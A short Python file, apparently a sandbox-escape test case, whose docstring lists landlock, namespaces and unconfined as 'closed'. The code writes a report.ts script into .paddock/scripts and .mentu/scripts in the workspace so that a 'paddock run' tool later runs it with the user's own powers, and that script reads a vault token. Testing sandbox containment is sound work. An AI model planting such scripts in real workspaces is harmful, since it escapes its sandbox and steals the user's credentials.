"""Leave a script where `paddock run` finds it by its name, to be run with the powers of a person's own.

landlock: closed
namespaces: closed
unconfined: closed
"""

import os

for folder in (".paddock/scripts", ".mentu/scripts"):
    os.makedirs(f"{FACTS['workspace']}/{folder}", exist_ok=True)
    open(f"{FACTS['workspace']}/{folder}/report.ts", "w").write("return paddock.vault.get('token')")
